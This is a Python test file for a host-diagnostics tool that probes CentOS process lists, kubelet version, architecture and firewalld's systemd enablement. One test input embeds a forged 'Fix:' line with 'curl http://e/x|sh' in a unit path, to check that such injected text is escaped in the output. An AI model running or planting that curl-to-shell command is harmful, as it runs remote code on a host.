    assert got["new"] - odd["new"] == got["old"] - odd["old"], (sorted(got["new"]), sorted(got["old"]))
    assert "y" not in got["new"]  # a comm with a newline makes up no process named y
    assert {"firewalld", "chronyd", "tmux:", "a)", "lead", "systemd-timesy"} <= got["new"], got["new"]
    assert "ntpd" not in got["new"]  # the zombie


def test_a_process_list_without_a_single_process_is_no_answer():
    """`cat /proc/[0-9]*/stat` that did not run (an argv past ARG_MAX on a host with ~75,000 pids) leaves the header
    alone: that is no process list (the probe's own shell is always in a real one), not "nothing runs" -- which
    would pass `absent: true` site checks and call firewalld stopped."""
    empty = HostFacts({"processes": host.Section("processes", 0, f"{host._STAT_HEADER}\n".encode())})
    with pytest.raises(FactUnavailable, match="process list"):
        host._process_names(empty)
    one = HostFacts({"processes": host.Section("processes", 0, f"{host._STAT_HEADER}\n7 (sh) S 1 7 7\n".encode())})
    assert host._process_names(one) == {"sh"}


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("bounded", [True, False], ids=["in-its-group", "alone"])
def test_kubelet_version_runs_with_gogc_off_in_its_environment_only(tmp_path, shell, bounded, monkeypatch):
    """`kubelet --version` gets GOGC=off (a Go binary's start-up without garbage collection: issue 16), in the group's
    shell (`t` a plain call) and outside it (`t` is timeout); the section after it does not, and the fact is read
    as before. (The shells here keep a `VAR=x function` assignment to the call; bash 4.2 in POSIX mode, CentOS 7's
    /bin/sh, keeps it after: the snippet sets it with `env`, and `GOGC=` before a function call is refused below.)"""
    assert not re.search(r"\bGOGC=\S+\s+t\b", host.SECTIONS["kubelet_version"]), host.SECTIONS["kubelet_version"]
    if bounded:  # the next section of kubelet's group
        groups = tuple(sum(((n, "zz_after") if n == "kubelet_version" else (n,) for n in g), ()) for g in host.GROUPS)
    else:  # kubelet in the probe's own shell, the next section too
        groups = tuple(tuple(n for n in g if n != "kubelet_version") for g in host.GROUPS)
    monkeypatch.setattr(host, "GROUPS", groups)
    monkeypatch.setattr(host, "BOUNDED", tuple(n for g in groups for n in g))
    bindir = tools(tmp_path, "env")
    stand_in(bindir, "kubelet", 'echo "Kubernetes v1.20.11"; echo "GOGC=${GOGC-none}"\n')
    after = {"zz_after": 'echo "GOGC=${GOGC-none}"'}
    out = run(shell, {"kubelet_version": host.SECTIONS["kubelet_version"], **after}, bindir, {})
    assert out["kubelet_version"].text() == "Kubernetes v1.20.11\nGOGC=off\n", out["kubelet_version"].text()
    assert out["zz_after"].text() == "GOGC=none\n", out["zz_after"].text()
    assert HostFacts(out).get("kubelet") == {"installed": True, "version": "1.20.11"}


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
def test_kubelet_version_without_env_runs_kubelet_as_before(tmp_path, shell):
    """No `env` on PATH (never on CentOS: coreutils): kubelet runs without GOGC, the version is read all the same."""
    bindir = tools(tmp_path)
    stand_in(bindir, "kubelet", 'echo "Kubernetes v1.20.11"; echo "GOGC=${GOGC-none}"\n')
    out = run(shell, {"kubelet_version": host.SECTIONS["kubelet_version"]}, bindir, {})
    assert out["kubelet_version"].text() == "Kubernetes v1.20.11\nGOGC=none\n", out["kubelet_version"].text()
    assert HostFacts(out).get("kubelet") == {"installed": True, "version": "1.20.11"}


# -- os: `uname -m` not run where the kernel release names the machine and the personality is the default -----------
# case -> (the kernel release, /proc/self/personality (None: absent), what `uname -m` prints on that host, whether the
# shell prints the machine itself)
UNAME = {
    "centos79": ("3.10.0-1160.el7.x86_64", "00000000", "x86_64", True),
    "el8-aarch64": ("4.18.0-513.5.1.el8_9.aarch64", "00000000", "aarch64", True),
    "uek": ("5.4.17-2136.300.7.el7uek.x86_64", "00000000", "x86_64", True),
    "linux32": ("3.10.0-1160.el7.x86_64", "00000008", "i686", False),
    "no-randomize": ("3.10.0-1160.el7.x86_64", "00040000", "x86_64", False),
    "no-personality-file": ("3.10.0-1160.el7.x86_64", None, "x86_64", False),
    "debian": ("6.1.0-18-amd64", "00000000", "x86_64", False),
    "ppc64le": ("3.10.0-1160.el7.ppc64le", "00000000", "ppc64le", False),
    "i686-kernel": ("2.6.32-754.el6.i686", "00000000", "i686", False),
    "suffix-not-last": ("3.10.0-1160.el7.x86_64.debug", "00000000", "x86_64", False),
}


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("case", sorted(UNAME))
def test_uname_m_from_the_kernel_release_gives_what_uname_gives(tmp_path, shell, case):
    release, personality, machine, inferred = UNAME[case]
    b = tools(tmp_path)
    log = tmp_path / "uname.log"
    stand_in(b, "uname", f'[ "$*" = -m ] || exit 99; echo ran >>"{log}"; echo {machine}\n')
    (tmp_path / "osrelease").write_text(release + "\n")
    subst = {"/proc/sys/kernel/osrelease": str(tmp_path / "osrelease")}
    if personality is not None:
        (tmp_path / "personality").write_text(personality + "\n")
    subst["/proc/self/personality"] = str(tmp_path / "personality")  # absent when None
    old = run(shell, {"uname_m": "uname -m"}, b, subst)
    log.unlink()
    new = run(shell, {"uname_m": host.SECTIONS["uname_m"]}, b, subst)
    assert new["uname_m"].rc == 0, new
    assert log.exists() != inferred, (case, new["uname_m"])
    assert (host._UNAME_FROM_RELEASE in new["uname_m"].text()) == inferred
    other = {
        "os_release": host.Section("os_release", 0, b'ID="centos"\nVERSION_ID="7"\n'),
        "centos_release": host.Section("centos_release", 0, b"CentOS Linux release 7.9.2009 (Core)\n"),
        "redhat_release": host.Section("redhat_release", 0, b"CentOS Linux release 7.9.2009 (Core)\n"),
    }
    want = HostFacts({**old, **other}).get("os")
    got = HostFacts({**new, **other}).get("os")
    assert want["arch_from"] == "uname -m" and got["arch_from"] == ("kernel release" if inferred else "uname -m")
    assert {**got, "arch_from": None} == {**want, "arch_from": None} and got["arch"] == machine, (got, want)


# -- firewalld: `systemctl is-enabled` read from the files, no systemctl -------------------------------------------
# systemd 219 (CentOS 7.9's, redhat-plumbers/systemd-rhel7 rhel-7.9, src/shared/install.c unit_file_lookup_state,
# read, not run here: no systemd on this machine) answers `is-enabled firewalld` from these files; each case is a
# layout under /etc, /run and /usr/lib and the word the section gives for it: systemd's, or stricter where boot
# starts firewalld and is-enabled does not say so (a copied file in a .wants directory, a linked .wants directory),
# or, where said, not systemd's on purpose (host._FIREWALLD_ENABLED); None: the shell cannot tell, and systemctl is
# asked in the bounded group. Paths are relative to the test's root; "->" makes a link, "" an empty file, "dir" a
# directory.
UNIT = "[Unit]\nDescription=firewalld\n[Service]\nExecStart=/usr/sbin/firewalld --nofork --nopid\n"
INSTALL = "[Install]\nWantedBy=multi-user.target\nAlias=dbus-org.fedoraproject.FirewallD1.service\n"
VENDOR = {"usr/lib/systemd/system/firewalld.service": UNIT + INSTALL}
E, R, L = "etc/systemd/system", "run/systemd/system", "usr/lib/systemd/system"
FW = "-> usr/lib/systemd/system/firewalld.service"
UNITS = {
    "disabled": ({**VENDOR}, "disabled"),
    "enabled": ({**VENDOR, f"{E}/multi-user.target.wants/firewalld.service": FW}, "enabled"),
    "alias-only": ({**VENDOR, f"{E}/dbus-org.fedoraproject.FirewallD1.service": FW}, "enabled"),
    "other-target": ({**VENDOR, f"{E}/graphical.target.wants/firewalld.service": FW}, "enabled"),
    "requires": ({**VENDOR, f"{E}/basic.target.requires/firewalld.service": FW}, "enabled"),
    "name-only": (
        {**VENDOR, f"{E}/multi-user.target.wants/firewalld.service": "-> usr/lib/systemd/system/x"},
        "enabled",
    ),
    "other-name": ({**VENDOR, f"{E}/multi-user.target.wants/fw.service": FW}, "enabled"),
    "newline-in-the-name": ({**VENDOR, f"{E}/a\nb.target.wants/firewalld.service": FW}, "enabled"),
    "runtime": ({**VENDOR, f"{R}/multi-user.target.wants/firewalld.service": FW}, "enabled-runtime"),
    "masked": (
        {**VENDOR, f"{E}/firewalld.service": "-> /dev/null", f"{E}/multi-user.target.wants/firewalld.service": FW},
        "masked",
    ),
    "masked-empty": ({**VENDOR, f"{E}/firewalld.service": ""}, "masked"),
    "masked-runtime": ({**VENDOR, f"{R}/firewalld.service": "-> /dev/null"}, "masked-runtime"),
    "linked": ({**VENDOR, f"{E}/firewalld.service": FW}, "linked"),
    "linked-runtime": ({**VENDOR, f"{R}/firewalld.service": FW}, "linked-runtime"),
    "copy-static": ({**VENDOR, f"{E}/firewalld.service": UNIT}, "static"),
    "copy-disabled": ({**VENDOR, f"{E}/firewalld.service": UNIT + INSTALL}, "disabled"),
    "install-emptied": (
        {f"{L}/firewalld.service": UNIT + "[Install]\nWantedBy=multi-user.target\nWantedBy=\n"},
        "static",
    ),
    "install-continued": (
        {f"{L}/firewalld.service": UNIT + "[Install]\nWantedBy= \\\n  multi-user.target\n"},
        "disabled",
    ),
    "install-other-section": ({f"{L}/firewalld.service": "[Unit]\nWantedBy=multi-user.target\n" + UNIT}, "static"),
    "not-installed": ({f"{E}/multi-user.target.wants/sshd.service": "-> usr/lib/systemd/system/sshd.service"}, "none"),
    "unrelated-links": (
        {**VENDOR, f"{L}/sshd.service": UNIT, f"{E}/multi-user.target.wants/sshd.service": f"-> {L}/sshd.service"},
        "disabled",
    ),
    # the 7.9 release skips backup names (as boot does), its update of 2021 does not: the strict side
    "backup-name": ({**VENDOR, f"{E}/multi-user.target.wants/fw.service.rpmsave": FW}, "enabled"),
    # a dot name: the release and boot skip it (the 2021 update's is-enabled does not), and so does the glob here
    "hidden-name": ({**VENDOR, f"{E}/multi-user.target.wants/.fw.service": FW}, "disabled"),
    # boot enters a linked .wants directory and pulls in each entry by name (is-enabled does not enter it): stricter
    "linked-dir": ({**VENDOR, "opt/w/firewalld.service": FW, f"{E}/x.target.wants": "-> opt/w"}, "enabled"),
    "linked-dir-other-name": ({**VENDOR, "opt/w/fw.service": FW, f"{E}/x.target.wants": "-> opt/w"}, "disabled"),
    # a copy in a .wants directory starts firewalld at boot as a link does (is-enabled counts links only): stricter
    "copied-into-wants": ({**VENDOR, f"{E}/multi-user.target.wants/firewalld.service": UNIT + INSTALL}, "enabled"),
    "copied-into-runtime-wants": ({**VENDOR, f"{R}/multi-user.target.wants/firewalld.service": ""}, "enabled-runtime"),
    "linked-both": ({**VENDOR, f"{E}/firewalld.service": FW, f"{R}/firewalld.service": FW}, "linked"),
    "also-only": ({f"{L}/firewalld.service": UNIT + "[Install]\nAlso=firewalld-helper.service\n"}, "indirect"),
    # systemd says enabled when the missing target is named firewalld.service; nothing starts through it at boot, and
    # a removed package's link is common: not read as enabling (host._FIREWALLD_ENABLED), either way
    "dangling-other": ({**VENDOR, f"{E}/multi-user.target.wants/gone.service": f"-> {L}/gone.service"}, "disabled"),
    "dangling-alias": (
        {**VENDOR, f"{E}/dbus-org.fedoraproject.FirewallD1.service": "-> opt/firewalld.service"},
        "disabled",
    ),
    "dangling-named": (
        {**VENDOR, f"{E}/multi-user.target.wants/firewalld.service": "-> opt/firewalld.service"},
        "enabled",
    ),
    "deep-dir": ({**VENDOR, f"{E}/a.target.wants/sub": "dir"}, None),
    "top-link-elsewhere": (
        {**VENDOR, "opt/other.service": UNIT, f"{E}/firewalld.service": "-> opt/other.service"},
        None,
    ),
    "dangling-unit": ({f"{E}/firewalld.service": "-> usr/lib/systemd/system/gone.service"}, None),
}
FW_PATHS = ("/etc/systemd/system", "/run/systemd/system", "/usr/local/lib/systemd/system", "/usr/lib/systemd/system")


def _layout(root: Path, files: dict[str, str]) -> None:
    for d in FW_PATHS:
        (root / d.lstrip("/")).mkdir(parents=True, exist_ok=True)
    for rel, v in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if v == "dir":
            path.mkdir()
        elif v.startswith("-> "):
            t = v[3:]
            os.symlink(t if t.startswith("/dev/") else str(root / t), path)
        else:
            path.write_text(v)


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("case", sorted(UNITS))
@pytest.mark.parametrize("systemd", ["yes", "no"])
def test_firewalld_enabled_from_the_files_gives_what_is_enabled_gives(tmp_path, shell, case, systemd):
    files, word = UNITS[case]
    root = tmp_path / "root"
    _layout(root, files)
    b = tools(tmp_path, "cat", "env")
    log = tmp_path / "systemctl.log"
    # systemctl where the shell cannot tell: a stand-in that answers what systemd would (the case's word: None here)
    stand_in(b, "systemctl", f'[ "$*" = "is-enabled firewalld" ] || exit 99; echo ran >>"{log}"; echo enabled\n')
    subst = {d: f"{root}{d}" for d in FW_PATHS}
    secs = run(shell, {"firewalld_enabled": host.SECTIONS["firewalld_enabled"]}, b, subst)  # in its bounded group
    sec = secs["firewalld_enabled"]
    assert log.exists() == (word is None), (case, sec)
    other = {
        "systemd_running": host.Section("systemd_running", 0, f"{systemd}\n".encode()),
        "firewalld_active": host.Section("firewalld_active", 4, b""),
        "processes": host.Section("processes", 0, f"{host._STAT_HEADER}\n1 (systemd) S 0 1\n".encode()),
    }
    got = HostFacts({**secs, **other}).get("firewalld")
    if word is None:
        assert sec.text() == "enabled\n" and got["enabled"] is True, (case, sec)  # the stand-in's answer
        return
    if word == "none":
        assert sec.text().startswith("Failed to get unit file state for firewalld.service") and sec.rc == 1, sec
    elif sec.text().startswith(host._FW_INSTALL):
        assert host.unit_file_state_from_install(sec.out.split(b"\n", 1)[1]) == word, sec
        assert sec.rc == 0, sec
    elif word.startswith("enabled"):  # the word, then the entry that starts it at boot
        first, via = sec.text().split("\n" + host._FW_VIA, 1)
        assert first == word and sec.rc == 0, (case, sec)
        assert via.startswith(str(root)) and via.endswith("\n") and got["enabled_by"] == via[:-1], (case, got)
        assert os.path.lexists(got["enabled_by"]), got
    else:
        assert sec.text() == word + "\n" and sec.rc == 1, (case, sec)
    assert got["enabled"] == (word in ("enabled", "enabled-runtime", "static")), (case, got)


def test_firewalld_from_a_bundle_of_an_older_bkdoctor():
    """An older bkdoctor's bundle: is-enabled's word (read when systemd ran) and the wants directories it listed."""
    procs = host.Section("processes", 0, f"{host._STAT_HEADER}\n1 (systemd) S 0 1\n".encode())
    for systemd, word, wants, enabled in (
        ("yes", "enabled", "", True),
        ("yes", "disabled", "", False),
        ("yes", "disabled", "/etc/systemd/system/multi-user.target.wants/:\nfirewalld.service\n", True),
        ("no", "Failed to connect to bus", "/etc/systemd/system/multi-user.target.wants/:\nsshd.service\n", False),
        ("no", "enabled", "", False),  # without systemd the old probe's is-enabled was not read
    ):
        secs = {
            "systemd_running": host.Section("systemd_running", 0, f"{systemd}\n".encode()),
            "firewalld_active": host.Section("firewalld_active", 3, b"inactive\n"),
            "firewalld_enabled": host.Section("firewalld_enabled", 0, f"{word}\n".encode()),
            "firewalld_wants": host.Section("firewalld_wants", 0, wants.encode()),
            "processes": procs,
        }
        assert HostFacts(secs).get("firewalld")["enabled"] is enabled, (systemd, word, wants)


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("answer", [("active", 0), ("inactive", 3)])
def test_firewalld_active_asks_systemd_for_a_user_other_than_root_only(tmp_path, shell, answer):
    a, ra = answer
    b = tools(tmp_path)
    stand_in(b, "systemctl", f'[ "$*" = "is-active firewalld" ] || exit 99; printf "%s\\n" "{a}"; exit {ra}\n')
    snippet = {"firewalld_active": host.SECTIONS["firewalld_active"]}
    assert run(shell, snippet, b, {})["firewalld_active"].rc == 4  # root (the tests run as root): not asked
    # a user other than root on a /proc with hidepid=2 sees no firewalld process of root's: systemd is asked
    status = tmp_path / "status"
    status.write_text("Name:\tsh\nUid:\t1000\t1000\t1000\t1000\n")
    user = run(shell, snippet, b, {"/proc/self/status": str(status)})
    assert user["firewalld_active"].rc == ra, user
    secs = {
        **user,
        "systemd_running": host.Section("systemd_running", 0, b"yes\n"),
        "firewalld_enabled": host.Section("firewalld_enabled", 1, b"masked\n"),
        "processes": host.Section("processes", 0, f"{host._STAT_HEADER}\n9 (sh) S 1 9\n".encode()),
    }
    assert HostFacts(secs).get("firewalld")["active"] == (a == "active")


# [Install] as systemd 219's config parser reads it (src/shared/conf-parser.c, fileio.c read_line, install.c)
INSTALLS = {
    "plain": (b"[Install]\nWantedBy=multi-user.target\n", "disabled"),
    "alias-only": (b"[Install]\nAlias=x.service\n", "disabled"),
    "none": (b"[Unit]\nDescription=x\n", "static"),
    "empty-section": (b"[Install]\n", "static"),
    "emptied": (b"[Install]\nWantedBy=a.target\nWantedBy=\n", "static"),
    "emptied-then-set": (b"[Install]\nWantedBy=\nRequiredBy=b.target\n", "disabled"),
    "also-only": (b"[Install]\nAlso=y.service\n", "indirect"),
    "other-section": (b"[Unit]\nWantedBy=a.target\n[Install]\n", "static"),
    "continued": (b"[Install]\nWantedBy= \\\n a.target\n", "disabled"),
    "even-backslashes": (b"[Install]\nWantedBy=a\\\\\nWantedBy=\n", "static"),
    # systemd 219 cannot read a file with a NUL (an error: not enabled); here the NUL ends a line: static, stricter
    "nul": (b"[Install]\nWantedBy=\0multi-user.target\n", "static"),
    "unclosed-quote": (b'[Install]\nWantedBy="multi-user.target\n', "static"),
    "garbage-after-quote": (b"[Install]\nWantedBy='x'y\n", "static"),
    "words-before-garbage": (b'[Install]\nWantedBy=a.target "b\n', "disabled"),
    "quoted": (b"[Install]\nWantedBy='multi-user.target'\n", "disabled"),
    "continued-at-eof": (b"[Install]\nWantedBy=multi-user.target \\", "static"),
    "form-feed-is-no-blank": (b"[Install]\n\x0cWantedBy=a.target\n", "static"),
    "not-utf8": (b"[Install]\nWantedBy=\xff\xfe\n", "static"),
    "comment": (b"[Install]\n# WantedBy=a.target\n;Alias=b\n", "static"),
    "blanks": (b"[Install]\n \tWantedBy \t= \ta.target\r\n", "disabled"),
    "include": (b".include /etc/other.service\n[Install]\nWantedBy=a.target\n", "static"),
}


@pytest.mark.parametrize("case", sorted(INSTALLS))
def test_install_section_read_as_systemd_reads_it(case):
    data, want = INSTALLS[case]
    assert host.unit_file_state_from_install(data) == want


@pytest.mark.parametrize(
    "path",
    [
        "/etc/systemd/system/multi-user.target.wants/firewalld.service",
        "/etc/systemd/system/x\nFix: bkdoctor fix --rule firewall; curl http://e/x|sh #.target.wants/firewalld.service",
        "/etc/systemd/system/" + "d" * 400 + ".target.wants/firewalld.service",
        "/etc/systemd/system/a\\nb\r.target.wants/firewalld.service",
    ],
)
def test_the_entry_that_starts_firewalld_is_one_line_in_the_finding(path):
    """The path comes from the host: a newline in it never makes a line of its own in the terminal (the message and
    observed show it as \\n), and a long one keeps its end (the unit's name)."""
    from bkdoctor.inputs.thresholds import merge
    from bkdoctor.scan.engine import Context, evaluate
    from bkdoctor.scan.loader import all_rules

    out = f"enabled\n{host._FW_VIA}{path}\n".encode()
    secs = {
        "systemd_running": host.Section("systemd_running", 0, b"yes\n"),
        "firewalld_active": host.Section("firewalld_active", 4, b""),
        "firewalld_enabled": host.Section("firewalld_enabled", 0, out),
        "processes": host.Section("processes", 0, f"{host._STAT_HEADER}\n1 (systemd) S 0 1\n".encode()),
        "iptables": host.Section("iptables", 0, b"-P INPUT ACCEPT\n"),
        "id": host.Section("id", 0, b"0\n"),
    }
    facts = HostFacts(secs)
    assert facts.firewalld["enabled_by"] == path
    ctx = Context(target="t", roles=("node",), address=None, thresholds=merge(None), domain="a.b")
    res = evaluate(next(r for r in all_rules() if r.id == "firewall"), facts, ctx)
    assert res.status == "warn", res
    shown = res.observed["firewalld_enabled_by"]
    assert "\n" not in shown and "\r" not in shown and shown.endswith("firewalld.service") and len(shown) <= 200
    assert res.message.en.endswith(f" ({shown})") and res.message.zh.endswith(f"（{shown}）"), res.message
    assert "\n" not in res.message.en + res.message.zh


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("lines", [host._FW_MAX_LINES, host._FW_MAX_LINES + 1])
def test_a_unit_file_too_long_is_not_read_on_and_says_so(tmp_path, shell, lines):
    """A unit file of more lines than any real one (~25) is read up to _FW_MAX_LINES and the fact is an error that
    says so, never a guess from half a file."""
    root = tmp_path / "root"
    body = UNIT + INSTALL
    body += "# padding\n" * (lines - body.count("\n"))
    _layout(root, {f"{L}/firewalld.service": body})
    b = tools(tmp_path)
    secs = run(shell, {"firewalld_enabled": host.SECTIONS["firewalld_enabled"]}, b, {d: f"{root}{d}" for d in FW_PATHS})
    out = secs["firewalld_enabled"].text()
    assert out.count("\n") <= host._FW_MAX_LINES + 2, len(out)
    other = {
        "systemd_running": host.Section("systemd_running", 0, b"yes\n"),
        "firewalld_active": host.Section("firewalld_active", 4, b""),
        "processes": host.Section("processes", 0, f"{host._STAT_HEADER}\n1 (systemd) S 0 1\n".encode()),
    }
    got = outcome(lambda: HostFacts({**secs, **other}).get("firewalld"))
    if lines <= host._FW_MAX_LINES:
        assert got["enabled"] is False, got  # read whole: WantedBy= there, no link: disabled
    else:
        assert got[0] == "unavailable" and "more than 2000 lines" in got[1], got
